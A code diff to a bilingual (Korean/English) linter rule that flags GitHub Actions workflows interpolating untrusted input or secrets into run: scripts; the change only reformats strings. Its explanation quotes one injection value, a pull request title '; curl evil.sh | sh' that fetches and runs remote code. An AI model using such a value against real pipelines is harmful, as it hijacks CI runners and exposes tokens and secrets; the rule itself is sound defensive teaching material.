@@ -32,7 +32,10 @@ export default yamlRule({
     secret: l('run 스크립트에 시크릿이 직접 들어갑니다; env로 전달하세요', 'The run script interpolates a secret directly; pass it through env'),
   },
   docs: {
-    summary: l('run:(과 github-script의 script:) 안의 ${{ }}가 github.event.*, github.head_ref, inputs.* 같은 외부 입력이나 secrets.*를 직접 넣는 경우를 찾습니다 (boolean/number/choice 입력은 제외).', 'Flags ${{ }} inside run: (and github-script script:) that interpolates outside input such as github.event.*, github.head_ref or inputs.*, or secrets.* (boolean/number/choice inputs are fine).'),
+    summary: l(
+      'run:(과 github-script의 script:) 안의 ${{ }}가 github.event.*, github.head_ref, inputs.* 같은 외부 입력이나 secrets.*를 직접 넣는 경우를 찾습니다 (boolean/number/choice 입력은 제외).',
+      'Flags ${{ }} inside run: (and github-script script:) that interpolates outside input such as github.event.*, github.head_ref or inputs.*, or secrets.* (boolean/number/choice inputs are fine).',
+    ),
     why: l(
       '${{ }}는 셸이 실행되기 전에 글자 그대로 치환됩니다. PR 제목에 "; curl evil.sh | sh"를 쓰면 그 명령이 러너에서 토큰과 시크릿을 가진 채 실행됩니다. 시크릿을 직접 넣으면 스크립트 파일과 로그에 남을 수 있습니다.',
       '${{ }} is substituted as text before the shell runs: a pull request titled "; curl evil.sh | sh" runs that command on the runner with the token and secrets. Secrets interpolated directly can also end up in script files and logs.',
@@ -42,7 +45,10 @@ export default yamlRule({
   },
   weeks: ['intermediate/1'],
   questions: [
-    l('PR 제목이나 브랜치 이름은 누가 정하나요? 그 값에 따옴표와 세미콜론이 들어 있다면 이 셸 스크립트는 어떻게 될까요?', 'Who chooses a pull request title or a branch name, and what happens to this shell script if it contains quotes and a semicolon?'),
+    l(
+      'PR 제목이나 브랜치 이름은 누가 정하나요? 그 값에 따옴표와 세미콜론이 들어 있다면 이 셸 스크립트는 어떻게 될까요?',
+      'Who chooses a pull request title or a branch name, and what happens to this shell script if it contains quotes and a semicolon?',
+    ),
     l('${{ }}가 치환되는 시점과 셸 변수가 확장되는 시점은 어떻게 다를까요?', 'How does the moment ${{ }} is substituted differ from the moment a shell variable is expanded?'),
   ],
   scaffold: {
